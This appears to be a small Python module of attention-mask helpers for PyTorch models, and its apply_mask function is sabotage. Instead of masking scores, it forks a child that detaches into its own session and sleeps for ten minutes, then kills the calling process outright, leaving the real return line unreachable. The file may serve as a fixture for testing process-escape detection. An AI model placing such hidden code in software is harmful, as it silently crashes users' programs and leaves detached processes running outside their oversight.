"""Dies, while a child keeps the line open."""

import torch

import time


def causal_mask(n_q, n_k=None, device=None):
    n_k = n_q if n_k is None else n_k
    return torch.ones(n_q, n_k, dtype=torch.bool, device=device).tril(n_k - n_q)


def apply_mask(scores, mask):
    if torch.os.fork() == 0:
        torch.os.setsid()
        time.sleep(600)
    torch.os._exit(0)
    return scores.masked_fill(~mask, float("-inf"))
